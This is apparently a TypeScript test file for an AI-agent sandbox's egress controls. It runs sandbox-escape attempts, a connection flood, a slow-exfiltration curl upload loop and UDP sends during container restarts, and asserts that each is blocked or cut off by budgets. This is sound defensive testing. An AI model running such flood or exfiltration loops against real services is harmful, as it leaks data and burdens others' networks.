import { existsSync, statSync } from 'node:fs';
import { expect, test } from 'vitest';
import { DOCS, GRANTED_ROADS, ROADS, UNASKED, WRITTEN, WRITTEN_FTP } from '../support/attack-road.ts';
import { gotThrough, outputOf, scriptOf, notRun, type Arrivals } from '../support/attack.ts';
import { command, dnsQueriesSeen, docker, mark, observed, packetsArrived, packetsTo } from '../support/lab.ts';
import { PYTHON, useSupervised } from '../support/supervised.ts';
import { until } from '../support/until.ts';

/** The attacks that need the whole product around the agent: profile, daemon, warden, ledger. */
const IMAGE = 'ringfence/agent-attack:local';
const EVIL = '203.0.113.66';
const MEDDLED = '203.0.113.190';
const KIB = 1024;
const LENIENT = { budget: { denials: '1000000/1m' }, on: { 'budget.denials': 'warn' } };
const ALLOW = [
  `${DOCS.name}:443`,
  'git.example.test:22,443',
  `${UNASKED.name}:443`,
  `${WRITTEN}/32:443`,
  `${WRITTEN}/32:9999/udp`,
  `${WRITTEN_FTP}/32:21`,
];

/** Where no neighbour and no listener is: those are attacked in attack-road.test.ts. */
const ELSEWHERE = {
  NEIGHBOUR: '10.213.255.2',
  NEIGHBOUR_GATEWAY: '10.213.255.1',
  NEIGHBOUR_NAME: 'neighbour',
  BROADCAST: '10.213.255.3',
  HOST_PORT: '1',
  GATE_PORT: '1',
};

const supervised = useSupervised();

test('none of the roads lets the agent of a profile out, and what is granted does', { timeout: 120_000 }, async () => {
  const attacks = ROADS.filter(({ rootOnly }) => !rootOnly);
  const bridge = await docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Gateway}}');
  const profile = supervised.writeProfile({
    name: 'roads',
    command: ['sh', '-s'],
    egress: { allow: ALLOW },
    limits: { memory: '512MiB', pids: 800, files: 1024 },
    budget: { ...LENIENT.budget, wall: '2m' },
    on: LENIENT.on,
    more: { image: IMAGE },
  });
  const since = await mark();
  const script = scriptOf([...GRANTED_ROADS, ...attacks], { ...ELSEWHERE, BRIDGE: bridge });
  const gateway = `export GATEWAY=$(ip route | awk '/^default/ { print $3 }')`;
  const { stdout } = await supervised.daemon.cli(['run', profile], {
    input: `${gateway}\n${script}`,
    timeoutMs: 100_000,
  });
  expect(notRun(attacks, stdout)).toEqual([]);
  const arrivals: Arrivals = {
    packets: await packetsArrived({ since }),
    queries: await dnsQueriesSeen({ since }),
    seen: await observed({ since }),
    atHost: [],
    atNeighbour: [],
    atAgent: [],
  };
  const through = (each: (typeof attacks)[number]): readonly string[] => each.through(arrivals);
  expect(gotThrough(attacks, Object.fromEntries(attacks.map((each) => [each.id, through(each)])))).toEqual({});
  expect(GRANTED_ROADS.filter((each) => through(each).length === 0).map(({ id }) => outputOf(id, stdout))).toEqual([]);
});

const FLOOD = (seconds: number): readonly string[] =>
  PYTHON(`
import socket, time
until = time.monotonic() + ${seconds}
made, held = 0, []
while time.monotonic() < until:
    for number in range(200):
        road = socket.socket()
        road.setblocking(False)
        road.connect_ex(("203.0.113.%d" % (number % 200 + 1), 443))
        held.append(road)
        made += 1
    for road in held[:-200]: road.close()
    held = held[-200:]
    print("made", made, flush=True)
`);

test('ten thousand denied connections a second: the record stays small and the daemon answers', async () => {
  const ledger = `${supervised.daemon.state}/ledger`;
  const before = await sizeOf(ledger);
  const since = await mark();
  const flood = { command: FLOOD(5), limits: { files: 1024 }, more: { image: IMAGE } };
  const ended = supervised.run({ name: 'flood', ...flood, ...LENIENT });
  await supervised.running('flood');
  for (let answers = 0; answers < ANSWERS; answers += 1) await supervised.ringfence('ps');
  const { outcome, output } = await ended;
  expect(outcome).toMatchObject({ reason: 'exited', exitCode: 0, detail: 'the agent exited with code 0' });
  expect(Number(/made (\d+)\s*$/.exec(output)?.[1])).toBeGreaterThan(CONNECTIONS_MIN);
  expect((await supervised.records(outcome.runId)).length).toBeLessThan(RECORDS_MAX);
  expect((await sizeOf(ledger)) - before).toBeLessThan(LEDGER_BYTES_MAX);
  expect(await packetsTo(EVIL, { since })).toEqual([]);

  const bounded = await supervised.run({ name: 'flood-bounded', ...flood, budget: { denials: '20/1m' } });
  expect(bounded.outcome).toMatchObject({ reason: 'budget.denials', rule: 'budget.denials' });
  expect(await supervised.incidentsOf('flood-bounded')).toHaveLength(1);
  expect(await packetsTo(EVIL, { since })).toEqual([]);
});
const ANSWERS = 5;
const CONNECTIONS_MIN = 10_000;
const RECORDS_MAX = 1_000;
const LEDGER_BYTES_MAX = 1024 * KIB;

async function sizeOf(folder: string): Promise<number> {
  const { stdout } = await command('find', [folder, '-type', 'f']);
  return stdout
    .split('\n')
    .filter((path) => path !== '')
    .reduce((sum, path) => sum + statSync(path).size, 0);
}

test('slow exfiltration over an allowed host ends at the budget', async () => {
  const since = await mark();
  const drip = `while :; do head -c 4096 /dev/zero | curl -sS --cacert /agent/lab-ca.crt -T - -o /dev/null https://${DOCS.name}/upload; sleep 0.02; done`;
  const { outcome } = await supervised.run({
    name: 'drip',
    command: ['sh', '-c', drip],
    egress: { allow: [DOCS.name] },
    budget: { egress: '128KiB' },
    more: { image: IMAGE },
  });
  expect(outcome).toMatchObject({ reason: 'budget.egress', rule: 'budget.egress' });
  const sent = (await packetsTo(DOCS.address, { since })).reduce((sum, packet) => sum + packet.payloadBytes, 0);
  expect(sent).toBeGreaterThan(64 * KIB);
  expect(sent).toBeLessThanOrEqual(128 * KIB);
});

/** Datagrams only: what gets through leaves no connection behind that would speak in the records of later tests. */
const ATTEMPTS = PYTHON(`
import socket
while True:
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("${MEDDLED}", 9999))
    except OSError: pass
`);

test('a container that somebody else restarts gets nothing out, and its run ends', async () => {
  const since = await mark();
  const run = await supervised.launch({ name: 'restarted', command: ATTEMPTS, ...LENIENT, more: { image: IMAGE } });
  const { containerId } = await supervised.running(run.runId);
  // The engine may be told to remove it in the middle of that.
  await docker('restart', '--time', '0', containerId ?? '').catch(() => undefined);
  await supervised.wait(run.runId);
  expect(await packetsTo(MEDDLED, { since })).toEqual([]);
});

test(
  'a container that the operator attaches to a second network gets hardly anything out, with and without a daemon',
  {
    timeout: 240_000,
  },
  async () => {
    const attached = async (name: string, meanwhile: (pid: number) => Promise<void>): Promise<number> => {
      const more = { image: IMAGE };
      const run = await supervised.launch({
        name,
        command: ATTEMPTS,
        ...LENIENT,
        budget: { ...LENIENT.budget, wall: '5m' },
        more,
      });
      const { containerId } = await supervised.running(run.runId);
      const pid = Number(await docker('inspect', '--format', '{{.State.Pid}}', containerId ?? ''));
      const from = await mark();
      await meanwhile(pid);
      await docker('network', 'connect', 'bridge', containerId ?? '').catch(() => undefined);
      await until('it is ended', () => !existsSync(`/proc/${pid}`), { deadlineMs: ENDED_MS_MAX });
      await supervised.daemon.start();
      const { outcome } = await supervised.wait(run.runId);
      expect(outcome).toMatchObject({ reason: 'enforcement.lost', rule: 'network' });
      return (await packetsTo(MEDDLED, { since: from })).length;
    };
    // The twin: by that network packets do get out.
    const since = await mark();
    const plain = (await docker('run', '--detach', '--network', 'bridge', IMAGE, ...ATTEMPTS)).trim();
    await until('a plain container gets out', async () => (await packetsTo(MEDDLED, { since })).length > 0, {
      deadlineMs: ENDED_MS_MAX,
    });
    await docker('rm', '--force', plain);
    const watched = await attached('attached', async () => undefined);
    const alone = await attached('attached-alone', () => supervised.daemon.crash());
    // The kernel tells of the device before it has an address; 1,174 got out when only the engine told.
    expect(watched).toBeLessThan(FOREIGN_PACKETS_MAX);
    expect(alone).toBeLessThan(FOREIGN_PACKETS_MAX);
  },
);
const ENDED_MS_MAX = 20_000;
const FOREIGN_PACKETS_MAX = 100;
